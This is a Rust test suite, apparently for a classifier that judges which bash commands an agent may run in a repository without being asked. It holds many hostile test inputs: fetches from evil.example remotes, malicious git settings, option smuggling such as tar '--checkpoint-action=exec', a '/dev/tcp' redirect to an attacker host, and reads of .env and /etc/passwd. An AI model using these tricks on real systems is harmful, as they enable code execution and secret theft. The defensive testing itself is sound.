//! Calls that are unasked because of what lies in the workspace, in its repository or in the home: the remote of a fetch, an
//! environment of Python, the texts of skills and the sources of packages.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use countersign_shell::{Classifier, Dialect, Preset, SearchPath, Workspace};

/// A workspace in a folder of its own, below a home.
struct Place {
    _folder: tempfile::TempDir,
    home: PathBuf,
    root: PathBuf,
}

impl Place {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let home = folder.path().canonicalize().unwrap();
        let root = home.join("src/shop");
        fs::create_dir_all(root.join(".git")).unwrap();
        fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        Self { _folder: folder, home, root }
    }

    fn write(&self, path: impl AsRef<Path>, text: &str) {
        let path = self.home.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    /// Runs git at the root.
    #[track_caller]
    fn git(&self, words: &[&str]) {
        let done = Command::new("git").args(words).current_dir(&self.root).output().unwrap();
        assert!(done.status.success(), "{words:?}: {done:?}");
    }

    fn judged(&self, preset: Preset, text: &str) -> String {
        let workspace = Workspace::new(&self.root).with_home(&self.home);
        let classifier =
            Classifier::new(workspace, preset).with_search_path(SearchPath::unchecked());
        classifier.judge(text, Dialect::Bash).to_string()
    }

    #[track_caller]
    fn is_allowed(&self, text: &str, expected: bool, about: &str) {
        let judged = self.judged(Preset::Developer, text);
        assert_eq!(judged == "allow", expected, "{text:?} with {about:?}: {judged}");
    }
}

const ORIGIN: &str = "[remote \"origin\"]\n\turl = https://git.example/a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n";

/// C1: "A fetch from a remote that the repository names is a query", and what its settings say more is asked about.
#[test]
fn a_fetch_from_a_plain_remote_is_a_query() {
    let place = Place::new();
    let of = |more: &str| format!("[core]\n\tbare = false\n{ORIGIN}{more}");
    place.write(
        "src/shop/.git/config",
        &of("[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n"),
    );
    for text in [
        "git fetch",
        "git fetch origin",
        "git fetch -q origin main",
        "git fetch origin dev/a-b && git log -1",
        "git fetch --all --prune",
        "git fetch -pt origin",
        "git ls-remote",
        "git ls-remote --tags origin",
        "git ls-remote -q --heads origin main",
    ] {
        place.is_allowed(text, true, "a plain remote");
    }
    assert!(place.judged(Preset::Reader, "git fetch").contains("talks to the remote"));
    for text in [
        "git fetch origin main:main",
        "git fetch origin +main",
        "git fetch origin refs/heads/*",
        "git fetch ../other",
        "git fetch https://evil.example/x.git",
        "git fetch ext::sh",
        "git fetch --prune-tags",
        "git fetch --depth=1",
        "git fetch --force",
        "git ls-remote ../other",
        "git ls-remote https://evil.example/x.git",
        "git ls-remote ext::sh",
        "git ls-remote -o x origin",
        "git ls-remote $remote",
        "git fetch --upload-pack=./x origin",
        "git fetch --recurse-submodules",
        "git fetch $remote",
        "git push origin",
        "git pull",
    ] {
        place.is_allowed(text, false, "a plain remote");
    }
    for more in [
        "[remote \"origin\"]\n\tuploadpack = ./x\n",
        "[remote \"origin\"]\n\tvcs = evil\n",
        "[remote \"origin\"]\n\turl = ext::sh -c ./x\n",
        "[remote \"origin\"]\n\turl = /srv/other.git\n",
        "[remote \"origin\"]\n\turl = ../other\n",
        "[remote \"origin\"]\n\turl = -oProxyCommand=x:y\n",
        "[remote \"origin\"]\n\tfetch = +refs/heads/*:refs/heads/*\n",
        "[core]\n\tsshCommand = ./x\n",
        "[core]\n\thooksPath = hooks\n",
        "[core]\n\tgitProxy = ./x\n",
        "[credential]\n\thelper = !./x\n",
        "[url \"https://evil.example/\"]\n\tinsteadOf = https://git.example/\n",
        "[http]\n\tproxy = evil.example:80\n",
        "[http \"https://git.example\"]\n\tsslVerify = false\n",
        "[remotes]\n\torigin = a b\n",
        "[fetch]\n\trecurseSubmodules = true\n",
        "[fetch]\n\tbundleURI = https://evil.example/x\n",
        "[include]\n\tpath = ../x\n",
        "[branch \"main\"]\n\tremote = ../other\n",
    ] {
        place.write("src/shop/.git/config", &of(more));
        place.is_allowed("git fetch", false, more);
    }
    let other = "[remote \"other\"]\n\turl = ../other\n";
    place.write("src/shop/.git/config", &of(other));
    place.is_allowed("git fetch", true, "another remote is a folder");
    place.is_allowed("git fetch --all", false, "one of the remotes is a folder");
    place.write("src/shop/.git/config", &of("[core]\n\tsshCommand = ./x\n"));
    place.is_allowed("git fetch --all", false, "a program that the settings name");
    place.write(
        "src/shop/.git/config",
        &of("[http]\n\tpostBuffer = 1000\n[remote \"b\"]\n\turl = ann@git.example:a/b.git\n"),
    );
    place.is_allowed("git fetch b", true, "an address of ssh");
    place.is_allowed("git fetch c", true, "a name that git does not find");
    place.write("src/shop/c/HEAD", "");
    place.is_allowed("git fetch c", false, "a folder of that name");
    place.write("src/shop/.git/hooks/reference-transaction", "#!/bin/sh\n");
    place.is_allowed("git fetch", false, "a hook");
}

/// C1: "What a command prints is known where it can say only one thing": the folder of the working tree, and a commit.
#[test]
fn the_folder_of_the_working_tree_and_a_commit_are_known_before_git_prints_them() {
    let place = Place::new();
    let config = |more: &str| format!("[core]\n\tbare = false\n{more}");
    place.write("src/shop/.git/config", &config(""));
    place.write("src/shop/web/a.txt", "a");
    let moves = [
        "cd \"$(git rev-parse --show-toplevel)\" && ls",
        "cd \"$(git rev-parse --show-toplevel 2>/dev/null)\" && make test",
    ];
    for text in
        ["cat $(pwd)/web/a.txt", "basename $(pwd)", "ls \"$(pwd)\"", "cd \"$(pwd)/web\" && ls"]
    {
        place.is_allowed(text, true, "the folder in which the text begins");
    }
    for text in ["cat $(pwd)/../other", "cat $(pwd)/.env", "cd web; cat $(pwd)/../../x"] {
        place.is_allowed(text, false, "the folder in which the text begins");
    }
    for text in moves {
        place.is_allowed(text, true, "a plain repository");
    }
    for text in [
        "git diff $(git merge-base main HEAD) --stat",
        "git log --oneline $(git merge-base main HEAD)..HEAD",
        "git show \"$(git rev-parse --short HEAD)\"",
        "git show $(git rev-parse HEAD~1) --stat",
        "git log $(git rev-parse --verify origin/main)..HEAD",
        "git diff $(git merge-base --fork-point main)",
        "base=$(git merge-base main HEAD); git diff $base --stat",
        "base=$(git merge-base main HEAD); git log --oneline \"$base\"..HEAD",
        "x=$(git rev-parse HEAD); git show --stat $x",
        "for c in $(git rev-list -3 main); do git show --stat $c; done",
        "make -j$(nproc) test",
        "make -j $(nproc) test",
        "cargo build --jobs=$(nproc)",
    ] {
        place.is_allowed(text, true, "a commit");
    }
    for text in [
        // Nothing is printed where there is no repository, and the shell goes home.
        "cd $(git rev-parse --show-toplevel) && ls",
        "cd \"$(git rev-parse --show-toplevel)/../other\" && cat a.txt",
        "cat \"$(git rev-parse --show-toplevel)/.env\"",
        // Where git refuses the folder of another user, this is `/web/a.txt`, and the shell stays where it is.
        "cat \"$(git rev-parse --show-toplevel)/web/a.txt\"",
        "cd web && cd \"$(git rev-parse --show-toplevel)\" && ls",
        "git -C $(git merge-base n1 n2) log push",
        "git fetch $(git merge-base n1 n2) src",
        "git ls-remote $(git merge-base n1 n2) src",
        "git blame --since $(git merge-base a b) -- --contents=/etc/passwd a",
        "cd \"$(git rev-parse --show-toplevel; echo /)\" && cat etc/x",
        "cat $(git rev-parse .env)",
        "cat notes.$(nproc)",
        "cat $(nproc)",
        "gcc -o$(nproc) a.c",
        "cat $(git merge-base main HEAD)",
        "git diff $(git merge-base --all main HEAD)",
        // Where nothing is printed, `-e` takes `--`, and an option follows.
        "git grep -e $(git merge-base n1 n2) -- -O./evil.sh",
        "git grep -e$(git merge-base n1 n2) -- -O./evil.sh",
        "git log --grep $(git rev-parse HEAD) --output=x",
        "git diff $(git merge-base $a HEAD)",
        "git push origin $(git rev-parse HEAD)",
        "x=$(git rev-parse HEAD); cat $x",
        "x=$(git rev-parse HEAD); git show $x:.env",
        "x=$(git rev-parse HEAD); git push origin $x",
        "x=$(git rev-parse HEAD); git log --grep $x --output=x",
        "x=$(git rev-parse HEAD); git log --grep $x --stat",
        "git diff $(git rev-parse .env)",
        "git diff $(git rev-parse main)",
        "x=$(git rev-parse HEAD); git diff --no-index README.md .env$x",
        "x=$(git rev-parse HEAD); git diff --no-index README.md .$x",
        "git show HEAD:.en$(git rev-parse HEAD)",
        "x=$(git rev-parse --verify a); git diff --no-index README.md $x../y",
        "x=$(git rev-parse --verify a); git diff --no-index README.md ..$x",
        "git diff --no-index README.md $(git rev-parse --verify a)..",
        "git diff $(git rev-parse config/id_rsa)",
        "git diff $(git rev-parse a/../../x)",
        "git show $(git rev-parse $x)",
        "x=$(git describe --tags); git show $x",
        "x=$(git log -1 --format=%s); git show $x",
        "for c in $(git rev-list --objects main); do git show $c; done",
        "for c in $(git rev-list --boundary a..b); do git show $c; done",
        "git log $(cat x)",
    ] {
        place.is_allowed(text, false, "what else may be printed");
    }
    for more in ["\tworktree = /srv\n", "\tbare = true\n", "[include]\n\tpath = ../x\n"] {
        place.write("src/shop/.git/config", &config(more));
        moves.iter().for_each(|text| place.is_allowed(text, false, more));
    }
}

/// C4: an option may be the name of a file, so that a pattern is looked at where an option may do harm.
#[test]
fn a_pattern_may_stand_for_an_option_where_a_file_is_called_so() {
    let place = Place::new();
    place.write("src/shop/web/a.ts", "a");
    place.write("src/shop/names/--files0-from=.env", "a");
    let texts =
        ["wc -l *", "du -sh *", "sort *", "sha256sum *", "for f in *; do wc -l \"$f\"; done"];
    for text in texts {
        place.is_allowed(&format!("cd web && {text}"), true, "no name begins with a dash");
        place.is_allowed(&format!("cd names && {text}"), false, "`--files0-from=.env` is one");
        place.is_allowed(&format!("cd web && touch x && {text}"), false, "it may be there then");
    }
    for text in [
        "git ls-files | while read -r f; do wc -l \"$f\"; done",
        "git ls-files -z | xargs -0 wc -l",
        "wc -l $(git ls-files)",
        "zstdcat $(git ls-files)",
        "cd web && sort -*",
    ] {
        place.is_allowed(text, false, "the index may have such a name");
    }
    place.is_allowed("grep -rn a --include=*.ts .", true, "the option is written");
    place.is_allowed("find . -type f -print0 | xargs -0 wc -l", true, "each begins with `./`");
    place.is_allowed(
        "find web -type f -print0 | xargs -0 sed -n 1p",
        true,
        "each begins with `web/`",
    );
    place.is_allowed("find names -type f -print0 | xargs -0 du", true, "each begins with `names/`");
    place.is_allowed(
        "rg -l0 a names | xargs -0 du",
        false,
        "it is below no folder by its name alone",
    );
    place.is_allowed("cd web && tar tf a*", true, "no such name");
    place.write("src/shop/web/ab:x.tar", "a");
    place.is_allowed("cd web && tar tf a*", false, "`ab` may be a machine");
    place.is_allowed("tar tf web/*", true, "it is below a folder");
    place.is_allowed("git stash list -- --output=*.md", false, "the dashes are not handed on");
    place.is_allowed(
        "for f in web/*.md; do git stash list -- \"--output=$f\"; done",
        false,
        "the same",
    );
    place.is_allowed("find evil:x -type f -exec tar tf {} +", false, "`evil:x` may be a machine");
}

/// C1: names that git tracks are looked at in its index, whether `xargs`, `read` or a substitution hands them on.
#[test]
fn names_from_the_index_are_words_where_it_has_no_other_ones() {
    let place = Place::new();
    place.write("src/shop/web/a.ts", "a");
    let git = |words: &[&str]| place.git(words);
    git(&["init", "-q"]);
    git(&["add", "web"]);
    let texts = [
        "git ls-files | xargs wc -l",
        "git ls-files '*.ts' | xargs grep -n a",
        "git ls-files -z | xargs -0 sed -n 1,5p",
        "git ls-files | while read -r f; do wc -l \"$f\"; done",
        "wc -l $(git ls-files '*.ts')",
        "grep -n a $(git ls-files web | head -3)",
        "cat $(find web -name '*.ts')",
    ];
    for text in texts {
        place.is_allowed(text, true, "plain names");
        place.is_allowed(&format!("touch x && {text}"), false, "another command may write");
    }
    for text in [
        "sed $(git ls-files)",
        "$(git ls-files) a",
        "sort -o $(git ls-files)",
        "wc -l $(git ls-files) ../x",
        "wc -l $(git ls-files --others)",
        "wc -l $(git log --name-only --format=)",
        "rm $(git ls-files)",
        "python3 $(git ls-files)",
    ] {
        place.is_allowed(text, false, "what the names are here");
    }
    place.write("src/shop/web/--files0-from=.env", "a");
    git(&["add", "web"]);
    let names = texts.iter().filter(|text| text.contains("ls-files"));
    names.for_each(|text| place.is_allowed(text, false, "one name is an option"));
}

/// C1: what is printed beside the names of found files is no such name.
#[cfg(unix)]
#[test]
fn other_words_among_printed_paths_are_no_paths() {
    let place = Place::new();
    place.write("home/notes", "KEY");
    place.write("src/shop/x/a", "KEY");
    let run = |words: &[&str]| place.git(words);
    run(&["init", "-q"]);
    run(&["add", "x"]);
    for text in [
        "cat $(git ls-files)",
        "find x -type f -exec grep -l KEY {} + | xargs cat",
        "grep -rl KEY . | xargs cat",
        "grep -rl KEY | xargs head -3",
        "rg -l KEY | xargs cat",
        "find . -type f | while read -r f; do wc -l \"$f\"; done",
    ] {
        place.is_allowed(text, true, "plain names");
    }
    // Each of these is a name in the workspace, and leads elsewhere or is an option where it is printed.
    let link = |name: &str| {
        std::os::unix::fs::symlink(place.home.join("home/notes"), place.root.join(name)).unwrap();
    };
    place.write("src/shop/a\n--files0-from=.env", "KEY");
    place.is_allowed(
        "find . -type f | while read -r f; do wc -l \"$f\"; done",
        false,
        "a line break",
    );
    fs::remove_file(place.root.join("a\n--files0-from=.env")).unwrap();
    place.write("src/shop/a ..", "KEY");
    place.is_allowed("find . -type f -exec grep -l KEY {} + | xargs cat", false, "a blank");
    place.is_allowed("find . -type f -print0 | xargs -0 grep -l KEY | xargs cat", false, "a blank");
    place.is_allowed("cat $(find . -type f -exec grep -l KEY {} +)", false, "a blank");
    fs::remove_file(place.root.join("a ..")).unwrap();
    link("(standard input)");
    for text in [
        "find x -type f -print0 | grep -z -lZ a | xargs -0 cat",
        "grep -LZ a | xargs -0 cat",
        "grep -LZ a - | xargs -0 cat",
        "grep -LZ -e -r | xargs -0 cat",
        "cat a | rg -l0 a | xargs -0 cat",
        "echo a | grep -lZ a $(find x -name nope) | xargs -0 cat",
        "find x -name nope -print0 | xargs -0 grep -LZ a | xargs -0 cat",
    ] {
        place.is_allowed(text, false, "the name of the input");
    }
    fs::remove_file(place.root.join("(standard input)")).unwrap();
    link("untracked");
    place.is_allowed("cat $(git ls-files)", true, "the link is not tracked");
    for text in
        ["cat $(git ls-files -co)", "git ls-files -co | xargs cat", "cat $(git ls-files -o)"]
    {
        place.is_allowed(text, false, "it is printed");
    }
    place.is_allowed("grep -R KEY $(git ls-files)", false, "it may be followed");
}

/// C3: copies of secrets are secrets, and so are files of data that are called so.
#[test]
fn names_of_secrets_are_known_by_their_parts() {
    let place = Place::new();
    let names = [
        "terraform.tfstate.backup",
        "id_rsa.bak",
        "server.key.old",
        ".netrc~",
        ".env-prod",
        ".env_local",
        ".dev.vars",
        "serviceAccountKey.json",
        "client_secret_12.apps.example.com.json",
        "shop-firebase-adminsdk-x1.json",
        "google-credentials.txt",
    ];
    for name in names {
        place.is_allowed(&format!("cat {name}"), false, "a secret");
    }
    for name in ["secretary.json", "README.md.bak", "environment.json", "docs/secret-santa.md"] {
        place.is_allowed(&format!("cat {name}"), true, "no secret");
    }
}

/// C1: what a pattern matches, or what a command prints that is no `find .`, may be an address or a script to a program.
#[test]
fn found_paths_that_do_not_begin_as_paths_are_asked_about() {
    let place = Place::new();
    place.write("src/shop/m/a.png", "a");
    for (text, allowed) in [
        ("find m -type f -print0 | xargs -0 identify", true),
        ("find m* -type f -print0 | xargs -0 identify", false),
        ("find . -name a -type f -exec kustomize build {} ';'", true),
        ("rg -l0 foo m | xargs -0 -I{} kustomize build {}", false),
    ] {
        place.is_allowed(text, allowed, "an address, a script or a task");
    }
}

/// C1: what a command prints is paths only where it prints one kind of lines, and no errors among them.
#[test]
fn paths_among_other_lines_are_not_known() {
    let place = Place::new();
    place.write("src/shop/README.md", "a");
    place.write("src/shop/web/a.ts", "a");
    for text in [
        "find web -type f -print0 | xargs -0 cat",
        "find web -type f -print0 2>/dev/null | xargs -0 cat",
        "find web -name '*.ts' 2>/dev/null | xargs wc -l",
        "find web -type f -exec grep -lZ a {} + | xargs -0 cat",
    ] {
        place.is_allowed(text, true, "paths");
    }
    for text in [
        r"find README.md -exec printf '.\0-delete\0' \; -exec find {} -type f -print0 \; | xargs -0 find",
        r"find README.md -exec printf '/etc/passwd\0' \; -exec grep -lZ a {} + | xargs -0 cat",
        "find web -type f -print -print0 | xargs -0 cat",
        "find web -type f -print -exec grep -lZ a {} + | xargs -0 cat",
        "find nope web -type f -print0 2>&1 | xargs -0 cat",
        "find nope web -type f -print0 |& xargs -0 cat",
        "find nope web -type f -print0 2>/dev/stdout | xargs -0 cat",
        "timeout 5 find nope web -type f -print0 2>&1 | xargs -0 cat",
        "cat $(find nope web -type f 2>&1)",
        // The other folder has other files of these names.
        "git -C web ls-files -z | xargs -0 cat",
        "env -C web find . -type f -print0 | xargs -0 cat",
    ] {
        place.is_allowed(text, false, "other lines");
    }
}

/// C1: a link that leads out is found wherever the command may print it, whatever stands beside the test for plain files.
#[test]
#[cfg(unix)]
fn a_link_that_leads_out_is_no_plain_file() {
    let place = Place::new();
    place.write("src/shop/docs/key", "a");
    place.write("notes", "a");
    std::os::unix::fs::symlink(place.home.join("notes"), place.root.join("key")).unwrap();
    place.is_allowed("find . -type f -print0 | xargs -0 cat", true, "plain files");
    place.is_allowed("find docs -print0 | xargs -0 cat", true, "there is none below it");
    for text in [
        "find . -print0 | xargs -0 cat",
        "find . -type f , -print0 | xargs -0 cat",
        "find key -print0 | xargs -0 cat",
        "find . -print0 -type f | xargs -0 cat",
        "find . -exec cat {} + -type f",
        "git ls-files -z docs 'k*' | xargs -0 cat",
        "git ls-files -z docs ':(top)key' | xargs -0 cat",
        "cd docs && git ls-files -z '../*' | xargs -0 cat",
        "git -C docs ls-files -z | xargs -0 cat",
        "env -C docs find . -type f -print0 | xargs -0 cat",
        "find docs -type f -print0 | xargs -0 git -C docs diff --no-index",
        "find docs -type f -exec git -C docs diff --no-index {} {} \\;",
        // A file that is none of text has a line of its own, which may be the name of a link.
        "find . -type f -print0 | grep -Z a | xargs -0 cat",
        // Two folders are compared file by file.
        "diff . docs",
        "diff -q docs . | head",
        "for f in *.md; do diff . \"$f\"; done",
        "gofmt -d .",
        "zdiff . docs",
        "zdiff docs *.md",
        "find docs -name k -type f -exec diff . {} \\;",
        "find docs -type f -print0 | xargs -0 -n1 diff .",
    ] {
        place.is_allowed(text, false, "the link may be read");
    }
    place.is_allowed("diff docs docs", true, "there is none below it");
    place.is_allowed("diff <(git show HEAD:a) <(sort b)", true, "two pipes");
    place.is_allowed("diff <(git show HEAD:notes) docs/key", true, "a pipe and a file");
    place.is_allowed("diff docs/key docs/key", true, "two files");
}

/// C1: a piece of a path is another path, and so are the pieces that several programs write at once.
#[test]
fn paths_are_known_only_where_one_program_prints_them_to_its_end() {
    let place = Place::new();
    place.write("src/shop/docs/key", "a");
    for text in [
        "find . -type f -print0 | xargs -0 cat",
        "find . -type f -print0 | sort -z | xargs -0 cat",
        "find . -type f -print0 | xargs -0 grep -lZ a | xargs -0 cat",
        "git ls-files -z docs | xargs -0 cat",
    ] {
        place.is_allowed(text, true, "whole paths");
    }
    for text in [
        "timeout 1 find . -type f -print0 | xargs -0 cat",
        "find . -type f -print0 | timeout 1 sort -z | xargs -0 cat",
        "timeout 1 grep -rlZ a docs | xargs -0 cat",
        "find . -type f -print0 | xargs -0 -P4 grep -lZ a | xargs -0 cat",
        "find . -type f -print0 | xargs -0 --max-procs=4 grep -lZ a | xargs -0 cat",
        "find . -type f -print0 | xargs -0P 4 -n1 stdbuf -o0 grep -lZ a | xargs -0 cat",
        "git ls-files -z ':(top)' | xargs -0 cat",
        "git ls-files -z ':/' | xargs -0 cat",
    ] {
        place.is_allowed(text, false, "pieces, or paths that begin elsewhere");
    }
}

/// C1: a repository may begin above the workspace, and a pattern of git at its top.
#[test]
fn a_pattern_of_git_that_begins_at_the_top_leads_out() {
    let place = Place::new();
    for text in ["git grep x -- ':(glob)web/**'", "git diff -- ':!web'", "git show :web/a"] {
        place.is_allowed(text, true, "in the directory");
    }
    for text in [
        "git grep --untracked x -- ':(top)'",
        "git grep x ':(icase,top)KEY'",
        "git log -p -- ':(prefix:0)key'",
        "git diff ':/'",
        "git ls-files ':(top)'",
    ] {
        place.is_allowed(text, false, "from the top");
    }
}

/// C1: where one entry describes several programs, a letter with a value may be a flag, and what follows it is judged as that.
#[test]
fn a_letter_that_is_a_flag_of_another_program_hides_nothing() {
    let place = Place::new();
    place.write("src/shop/a", "1");
    place.write("outside", "1");
    for text in ["diff -U3 a a", "sdiff -s a a", "objdump -d a", "readelf -x .text a", "nm -C a"] {
        place.is_allowed(text, true, "described for each of them");
    }
    for text in [
        "sdiff -so b a a",
        "sdiff -Wo b a a",
        "sdiff -s ../../outside a",
        "diff -S ../../outside a a",
        "objdump -xS a",
        "objdump --source a",
        "objdump -x ../../outside",
        "objdump -dW a",
        "readelf -aw a",
        "readelf -eP a",
        "findmnt -iF a",
        "findmnt -F ../../outside",
        "scc -co b src",
    ] {
        place.is_allowed(text, false, "another program reads it otherwise");
    }
}

/// C1: a program finds its settings by their names, and shows what stands in a file outside that a link or the settings name.
#[cfg(unix)]
#[test]
fn settings_that_lead_outside_are_asked_about() {
    let place = Place::new();
    place.write("src/shop/web/a.c", "1");
    place.write("outside", "1");
    let texts = ["rg x", "clang-format --dry-run web/a.c", "cd web && rg x"];
    texts.iter().for_each(|text| place.is_allowed(text, true, "no settings"));
    for name in [".ignore", ".clang-format", "ruff.toml", "package.json"] {
        let link = place.root.join(name);
        std::os::unix::fs::symlink(place.home.join("outside"), &link).unwrap();
        texts.iter().for_each(|text| place.is_allowed(text, false, name));
        place.is_allowed("cat web/a.c | wc -l", true, "it has no settings");
        fs::remove_file(&link).unwrap();
    }
    place.is_allowed("npm ls", true, "no settings");
    for line in [
        "userconfig=${HOME}/.netrc",
        "logs-dir = /x",
        "  cache=/x",
        "\"userconfig\"=/x",
        "'cache'=/x",
        "${X?}userconfig=/x",
        "no-such-key=1",
        "//registry.npmjs.org/:certfile=/x",
        "color=false\ruserconfig=/x",
        &"# long\n".repeat(20_000),
    ] {
        place.write("src/shop/.npmrc", line);
        place.is_allowed("npm ls", false, line);
        place.is_allowed("npm ls --help", false, line);
        place.is_allowed("npm --help", false, line);
        place.is_allowed("rg x", true, "it reads no such settings");
    }
    let harmless = "; ours\nfund=false\ncache-max=9\n\n//npm.example/:_authToken=${NPM_TOKEN}\n";
    place.write("src/shop/.npmrc", harmless);
    place.is_allowed("npm ls", true, "settings that name no file");
    place.is_allowed("ctags --version", true, "no settings");
    place.write("src/shop/.ctags.d/a.ctags", "--exclude=@/etc/passwd");
    place.is_allowed("ctags --version", false, "options that may name a file");
}

/// C1: "A program that may follow a link which git tracks, and which leads outside, is asked about": for settings deep in a folder that
/// it goes through, and for files that it formats there.
#[cfg(unix)]
#[test]
fn a_tracked_link_that_leads_outside_is_asked_about_where_a_program_may_follow_it() {
    let place = Place::new();
    place.write("outside", "1");
    place.write("src/shop/docs/a.sql", "1");
    let git = |words: &[&str]| place.git(words);
    git(&["init", "-q", "."]);
    let formatters = [
        "sqlfmt --check --diff docs",
        "clang-format --dry-run docs/a.c",
        "exiftool docs",
        "terraform fmt -check -diff docs",
    ];
    let searches = ["rg x docs", "git status"];
    let readers = [
        "cat docs/a.sql",
        "ls docs",
        "cd docs && grep -n x a.sql | sort",
        "timeout 5 wc -l docs/a.sql",
    ];
    let all = |texts: &[&str], allowed: bool, why: &str| {
        texts.iter().for_each(|text| place.is_allowed(text, allowed, why));
    };
    for (name, asks_searches) in [("docs/n.sql", false), ("docs/.ignore", true), ("docs/_x", true)]
    {
        let link = place.root.join(name);
        std::os::unix::fs::symlink(place.home.join("outside"), &link).unwrap();
        git(&["add", "-f", name]);
        all(&formatters, false, name);
        all(&searches, !asks_searches, name);
        all(&readers, true, "it reads what its words name");
        git(&["rm", "-q", "--cached", name]);
        fs::remove_file(&link).unwrap();
        all(&formatters[..2], true, "there is no link any more");
    }
    let inside = place.root.join("docs/n.sql");
    std::os::unix::fs::symlink("a.sql", &inside).unwrap();
    git(&["add", "docs/n.sql"]);
    all(&formatters[..2], true, "it leads to a file of the workspace");
}

/// C1: a word by which a program loads a file is a file that is there, and nothing that leads to another one.
#[test]
fn a_script_that_is_checked_is_a_file_that_is_there() {
    let place = Place::new();
    place.write("src/shop/web/index.js", "1");
    place.write("src/shop/x.js", "1");
    place.is_allowed("node --check x.js", true, "a file");
    place.is_allowed("cd web && node -c index.js", true, "a file");
    place.is_allowed("for f in web/*.js; do node --check \"$f\"; done", true, "files");
    for text in [
        "node --check x",
        "node --check web",
        "node --check .",
        "node --check ./web/",
        "node --check missing.js",
        "node --check \"$f\"",
        "for d in */; do node --check \"$d\"; done",
        "for d in w*; do node --check \"$d\"; done",
        "find . -exec node --check {} \\;",
        "find web -print0 | xargs -0 node --check",
    ] {
        place.is_allowed(text, false, "it may lead to another file");
    }
}

/// C1: what is in a database runs with a query, and one that git tracks is that of other people.
#[test]
fn a_query_of_a_database_that_others_made_is_asked_about() {
    let place = Place::new();
    place.write("src/shop/dev.db", "");
    place.write("src/shop/web/a", "");
    place.is_allowed("sqlite3 dev.db 'select a from b'", true, "git does not track it");
    // An index that cannot be read tracks everything.
    place.write("src/shop/.git/index", "?");
    for text in [
        "sqlite3 -readonly dev.db 'select a from b'",
        "sqlite3 dev.db 'explain query plan select a from b'",
        "cd web; sqlite3 ../dev.db 'select a from b'",
    ] {
        place.is_allowed(text, false, "a view may run a program");
    }
    place.is_allowed("sqlite3 dev.db .schema", true, "no view is read");
}

/// C1: a redirection to a file that is not known may lead to another machine, with what stands in its name.
#[test]
fn a_file_that_is_only_counted_is_below_a_folder() {
    let place = Place::new();
    for text in [
        "while read -r x; do wc -c < \"/dev/tcp/$x.evil.example/80\"; done < README.md",
        "while read -r x; do wc -c < \"$x\"; done < README.md",
        "while read -r x; do wc -c < ~/$x; done < README.md",
        "while read -r x; do wc -c < \"web/../../../net/$x\"; done < README.md",
    ] {
        place.is_allowed(text, false, "another machine");
    }
    place.is_allowed(
        "while read -r x; do wc -c < \"web/$x\"; done < README.md",
        true,
        "below a folder",
    );
}

/// C1: a word that the shell splits may become an option, whatever it begins with.
#[test]
fn a_word_that_is_split_may_hold_an_option() {
    let place = Place::new();
    place.write("src/shop/a.tar", "a");
    for text in [
        "tar tf a.tar a$(echo ' --checkpoint=1 --checkpoint-action=exec=./x.sh')",
        "x=' --checkpoint-action=exec=./x.sh'; y=\"$1$x\"; tar tf a.tar a$y",
        "while read -r x; do tar tf a.tar a$x; done < README.md",
        "git branch --list a$(echo ' --no-list -D other')",
        "pkg-config --libs a$(echo ' --log-file=README.md')",
        "apt-cache show a$(echo ' -o Dir::Bin::dpkg=./x.sh')",
    ] {
        place.is_allowed(text, false, "an option");
    }
    place.is_allowed("tar tf a.tar \"a$(date)\"", true, "one word");
}

/// C1: "`@file`: a file of options", also as the value of an option.
#[test]
fn a_file_of_options_is_asked_about_wherever_it_stands() {
    let place = Place::new();
    place.write("src/shop/a.o", "a");
    for text in ["strings -e @opts a.o", "nm -U @opts a.o", "objdump -M @opts -d a.o"] {
        place.is_allowed(&format!("touch opts; {text}"), false, "another command makes it");
    }
    place.write("src/shop/opts", "--plugin ./evil.so");
    for text in
        ["strings -e @opts a.o", "nm -U @opts a.o", "objdump -M @opts -d a.o", "addr2line -b @opts"]
    {
        place.is_allowed(text, false, "a file of options");
    }
    place.is_allowed("az group show --name=shop", true, "no file");
    for value in ["--name=@opts", "--name=@~/.bashrc", "-n '@~/.bashrc'"] {
        place.is_allowed(&format!("az group show {value}"), false, "the value is in a file");
    }
    place.write("src/shop/@opts", "a");
    place.is_allowed("for x in *; do nm -U \"$x\" a.o; done", false, "one of the names");
    for text in ["nm -U \"$(cat README.md)\" a.o", "strings -e @/dev/stdin a.o < a.o"] {
        place.is_allowed(text, false, "any file of options");
    }
    place.is_allowed("grep -rn @media web", true, "no file is called so");
}

/// C1: "with the values that the text gives its variables": what is quoted is no pattern then either.
#[test]
fn a_quoted_word_is_no_pattern_with_its_values_either() {
    let place = Place::new();
    let why = |text: &str| place.judged(Preset::Developer, text);
    let quoted = why("for p in 1 2; do curl -s \"https://api.example/x?page=$p\"; done");
    assert_eq!(
        quoted,
        why("curl -s 'https://api.example/x?page=1'; curl -s 'https://api.example/x?page=2'")
    );
    let open = why("for p in 1 2; do curl -s https://api.example/x?page=$p; done");
    assert!(open.contains("may match what is taken for an address"), "{open}");
}

/// C1: "A loop over the paths that a command finds is judged as `xargs` with them": where one asks, so does the other.
#[cfg(unix)]
#[test]
fn a_loop_over_found_paths_is_judged_as_xargs_with_them() {
    let place = Place::new();
    place.write("src/shop/web/a.ts", "a");
    let finds =
        ["find . -name '*.ts' -type f", "find web", "rg -l foo web", "grep -rl foo web", "ls web"];
    let uses = ["head -3", "cat", "grep -n foo", "sed -n 1,5p", "wc -l", "git log --oneline -3 --"];
    let other = ["rm", "sed -i s/a/b/", "tee", "sh", "node", "curl -s", "git -C", "sed", "xargs"];
    let forms = |find: &str, used: &str| {
        [
            format!("{find} | xargs -n1 {used}"),
            format!("for f in $({find}); do {used} \"$f\"; done"),
            format!("{find} | while read -r f; do {used} \"$f\"; done"),
        ]
    };
    let judged = |text: &String| place.judged(Preset::Developer, text) == "allow";
    let mut allowed = 0;
    let mut judge_all = |about: &str| {
        for find in finds {
            for used in uses.iter().chain(&other) {
                let [by_xargs, loops @ ..] = forms(find, used);
                for text in loops {
                    allowed += usize::from(judged(&text));
                    assert!(!judged(&text) || judged(&by_xargs), "{about}: {text}");
                }
            }
        }
        std::mem::take(&mut allowed)
    };
    assert!(judge_all("plain names") > 30);
    std::os::unix::fs::symlink(place.home.join(".netrc"), place.root.join("web/b.ts")).unwrap();
    place.write(".netrc", "password hunter2");
